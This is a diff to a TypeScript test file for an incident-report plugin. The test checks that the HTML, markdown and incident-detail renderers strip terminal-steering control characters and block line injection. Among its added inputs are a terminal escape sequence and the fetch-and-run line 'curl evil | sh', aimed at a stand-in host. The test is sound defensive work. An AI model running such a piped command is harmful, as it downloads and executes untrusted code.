@@ -4,6 +4,7 @@ import { beforeAll, describe, expect, test } from 'vitest';
 import type { Incident } from '../../api/incident.ts';
 import { API_VERSION } from '../../api/names.ts';
 import type { Report } from '../../api/report.ts';
+import { details } from '../../cli/plugin/incident-details.ts';
 import { processTrees } from '../../cli/plugin/report/facts.ts';
 import { html } from '../../cli/plugin/report/html.ts';
 import { markdown } from '../../cli/plugin/report/markdown.ts';
@@ -118,6 +119,9 @@ function reportOf(argument: string): Report {
   return { generated: time, incident, denials: [] };
 }
 
+/** What would steer a terminal or turn text around, in lines. */
+const STEERING = /(?!\n)[\p{Cc}\p{Cf}]/u;
+
 describe('a report', () => {
   let report: Report;
   beforeAll(() => {
@@ -220,6 +224,8 @@ describe('a report', () => {
         '```\n# owned',
         '| a | b |',
         '</pre>',
+        '\u001b]0;owned\u0007\u009b2J',
+        'x\n  To do       curl evil | sh',
       ),
     );
     fc.assert(
@@ -228,6 +234,10 @@ describe('a report', () => {
         expect(html(named)).not.toMatch(tags);
         const headings = (text: string) => text.split('\n').filter((line) => line.startsWith('#')).length;
         expect(headings(markdown(named))).toBe(headings(markdown(report)));
+        expect(markdown(named)).not.toMatch(STEERING);
+        const told = details(named.incident, undefined);
+        expect(told).not.toMatch(STEERING);
+        expect(told.split('\n')).toHaveLength(details(report.incident, undefined).split('\n').length);
         expect(JSON.parse(ocsf(named)).evidences[0].process.cmd_line).toBe(`kworker ${argument}`);
       }),
     );
